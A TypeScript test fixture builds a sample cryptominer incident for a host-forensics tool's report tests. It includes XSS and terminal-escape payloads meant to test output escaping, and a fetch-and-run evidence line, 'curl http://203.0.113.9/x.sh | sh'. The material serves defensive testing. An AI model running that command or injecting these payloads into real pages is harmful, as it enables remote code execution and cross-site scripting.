// A case with everything in it for tests of the report: traced, answered in part, looked at, with hostile text wherever evidence can stand.
import { entity } from '../src/core/entity.ts'
import type { HostEvent } from '../src/core/event.ts'
import { evidence } from '../src/core/finding.ts'
import { gap } from '../src/core/gap.ts'
import type { Incident, ScanResult } from '../src/core/incident.ts'
import { type Instant, instantOf } from '../src/core/instant.ts'
import type { JournalRecord } from '../src/core/journal.ts'
import type { Plan } from '../src/core/plan.ts'
import type { ReportCase } from '../src/core/report.ts'
import type { Moment, Trace } from '../src/core/trace.ts'
import { findingOf } from './findings.ts'

/** Markup, control characters, a bidirectional override and a lone surrogate. */
export const hostile = `<script>alert(1)</script> "><img src=x onerror=alert(2)> | *b* [x](javascript:alert(3)) \`\u001b[31m \u202e \udc80 ]]> &amp;`
export const wallet = '43mJho7HpnD2EoyTwkc11yYicgtWw4GJ7CwenUkFx93DfEnoTPMNsqhM5dsfa78nwWYBTXFxzg6GWcomyEJnMPGCPWMLZR5'
const digest = 'b46b104489f1939a8c93199ded712daed798f47e3763826fcc2d59409fb0f0f7'
const start = Date.parse('2026-05-01T02:00:00.000Z')
export const at = (minutes: number): Instant => instantOf(start + minutes * 60_000)!
const both = (text: string) => ({ zh: `某 ${text}`, en: text })

const miner = entity('process', '4242@1000')
const program = entity('file', '/tmp/kdevtmpfsi')
export const finding = findingOf({
  id: 'F-1',
  title: both('the miner talks to a pool'),
  about: [miner, program, entity('domain', 'pool.example.com'), entity('ip', '203.0.113.9'), entity('wallet', wallet)],
  evidence: [
    evidence('proc', '/proc/4242/cmdline', hostile),
    evidence('file', '/tmp/kdevtmpfsi', 'curl http://203.0.113.9/x.sh | sh', digest),
  ],
  techniques: ['T1496.001', 'T1105'],
  class: 'pool',
})
const doubtful = findingOf({ id: 'F-2', about: [entity('ip', '10.0.0.5')], class: 'access', signal: 'context', severity: 'low' })

export const incident: Incident = {
  id: 'I-1',
  host: 'shop2',
  verdict: 'mining',
  confidence: 0.995,
  family: 'kinsing',
  findings: [finding, doubtful],
  members: [...finding.about, entity('user', 'alice')],
  edges: [],
  timeline: [{ at: at(0), what: both('file created'), entity: program }],
  origins: {
    processes: [
      {
        id: miner,
        pid: 4242,
        name: 'kdevtmpfsi',
        exe: '/tmp/kdevtmpfsi',
        startedAt: at(0),
        uid: 1000,
        cpuSeconds: 7200,
        cores: 2,
        cgroup: '/system.slice/redis.service',
        cwd: '/tmp',
        environ: ['SSH_CONNECTION=198.51.100.7 4711 192.0.2.10 22'],
        ancestors: [],
      },
    ],
    files: [],
  },
}

export const result: ScanResult = {
  schema: 'davylamp.scan.1',
  host: 'shop2',
  startedAt: at(120),
  finishedAt: at(121),
  verdict: 'mining',
  incidents: [incident],
  findings: incident.findings,
  gaps: [gap('/var/log/x', 'denied', 'permission denied'), gap('eBPF', 'unsupported', 'a disk runs no kernel')],
  coverage: {
    facts: { processes: 100, sockets: 20, files: 50, autostarts: 30 },
    collectors: ['processes'],
    persistence: ['cron-d'],
    detectors: ['test'],
  },
  cost: { wallMs: 1, cpuMs: 1, peakBytes: 1 },
}

const events: readonly HostEvent[] = [
  {
    id: 'E-1',
    host: 'shop2',
    at: at(-5),
    spread: 1,
    clock: 'local',
    trust: 'service',
    verb: 'configured',
    source: 'redis',
    locator: '/var/log/redis/redis.log:7',
    excerpt: hostile,
    count: 1,
    user: 'alice',
    address: '203.0.113.77',
    entities: [],
  },
]
const moment = (minutes: number): Moment => ({ at: at(minutes), spread: 30, text: both('a trace'), events: ['E-1'] })

export const trace: Trace = {
  schema: 'davylamp.trace.1',
  id: 'T-1',
  host: 'shop2',
  incident: 'I-1',
  at: at(122),
  zone: 'Asia/Shanghai',
  sources: [
    {
      source: 'redis',
      state: 'kept',
      paths: ['/var/log/redis/redis.log'],
      from: at(-1000),
      to: at(100),
      holes: [],
      lines: 10,
      bytes: 1000,
      events: 3,
    },
    {
      source: 'auth',
      state: 'wiped',
      paths: ['/var/log/auth.log'],
      holes: [{ from: at(-60), to: at(60), why: both('nothing was written') }],
      lines: 0,
      bytes: 0,
      events: 0,
    },
  ],
  anchor: moment(0),
  moments: { occurrence: moment(-5), discovery: moment(120), handling: moment(125) },
  timeline: events,
  eventsRead: 1234,
  candidates: [
    {
      id: 'redis',
      title: both('Redis without a password'),
      techniques: ['T1190'],
      posterior: 0.93,
      band: [0.82, 0.97],
      weighed: [
        { id: 'config-set', kind: 'for', weight: 4.2, text: both('CONFIG SET dir'), events: ['E-1'] },
        { id: 'login', kind: 'missing', weight: -0.4, text: both('the log of logins was wiped'), events: [] },
      ],
      entry: { at: at(-5), spread: 1, address: '203.0.113.77', by: hostile, events: ['E-1'] },
      collect: [both('the traffic of that day')],
      close: [],
    },
    { id: 'unknown', title: both('unknown'), techniques: [], posterior: 0.07, band: [0.03, 0.18], weighed: [], collect: [], close: [] },
  ],
  standing: 'established',
  passages: [],
  reach: [{ what: both('cloud credentials'), paths: ['/root/.aws/credentials'], by: 'hour' }],
  closing: [{ id: 'redis-password', title: both('give Redis a password'), targets: [entity('file', '/etc/redis/redis.conf')], by: 'hour' }],
  collectNext: [both('the traffic of that day')],
  graph: {
    nodes: [
      { id: 'a', kind: 'attacker', label: '203.0.113.77', rank: 0, techniques: [] },
      { id: 'b', kind: 'service', label: `redis ${hostile}`, rank: 1, techniques: ['T1190'] },
      { id: 'c', kind: 'file', label: '/tmp/kdevtmpfsi', rank: 2, techniques: [], entity: program },
    ],
    edges: [
      { from: 'a', to: 'b', label: both('commands'), at: at(-5), techniques: ['T1190'], because: ['E-1'] },
      { from: 'b', to: 'c', label: both('writes'), techniques: [], because: ['F-1'] },
    ],
    pruned: 7,
  },
  gaps: [],
}

const step = {
  id: 'S01',
  stage: 'vault',
  action: 'vault-file',
  target: program,
  because: ['F-1'],
  after: [],
  risk: 'safe',
  reversible: true,
  title: both('take the file away'),
  cost: both('nothing'),
  undoing: both('put it back'),
  before: '',
  detail: {},
} as const

export const plan: Plan = {
  schema: 'davylamp.plan.1',
  id: 'P-1',
  incident: 'I-1',
  host: 'shop2',
  root: '',
  createdAt: at(123),
  steps: [step, { ...step, id: 'S02', stage: 'kill', action: 'kill-process', target: miner, reversible: false }],
  refused: [{ guard: 'database', target: entity('process', '77@1'), why: both('has open transactions') }],
  advice: [{ title: both('change the passwords of alice'), by: 'day', targets: [entity('user', 'alice')] }],
}

const record = (sequence: number, event: JournalRecord['event'], id: string, minutes: number): JournalRecord => ({
  sequence,
  previous: '',
  at: at(minutes),
  event,
  step: id,
  action: 'act',
  detail: '',
  ...(event === 'intent' && { undo: {} }),
})

export const fullCase: ReportCase = {
  tool: 'davylamp 0.1.0',
  id: 'I-1',
  at: at(200),
  result,
  incident,
  plan,
  records: [
    record(1, 'intent', 'S01', 124),
    record(2, 'done', 'S01', 125),
    record(3, 'intent', 'S02', 126),
    record(4, 'failed', 'S02', 127),
  ],
  state: { phase: 'proving', day: 2, of: 7, since: at(130), until: at(10_000) },
  looks: [{ at: at(130), outcome: 'hit', after: 4, detail: JSON.stringify([both(hostile)]) }],
  nextLook: { at: at(1500), since: at(130) },
  trace,
  custody: [
    {
      at: at(124),
      event: 'collected',
      what: 'executable',
      source: `/proc/4242/exe ${hostile}`,
      how: 'read while frozen',
      entity: miner,
      sha256: digest,
      size: 4711,
      by: 'root (uid 0)',
      tool: 'davylamp 0.1.0',
    },
  ],
  chains: { journal: 'a'.repeat(64), evidence: 'b'.repeat(64) },
  yields: new Map([['XMR', { coin: 'XMR', date: '2025-11-01', usd: 340, reward: 0.6, blockSeconds: 120, networkHashrate: 5.5e9 }]]),
}

/** Of a scan alone: nothing traced, nothing done. */
export const bareCase: ReportCase = {
  tool: 'davylamp 0.1.0',
  id: 'I-1',
  at: at(121),
  result,
  incident: { ...incident, origins: undefined },
  records: [],
  looks: [],
  custody: [],
  chains: { journal: '', evidence: '' },
  yields: new Map(),
}
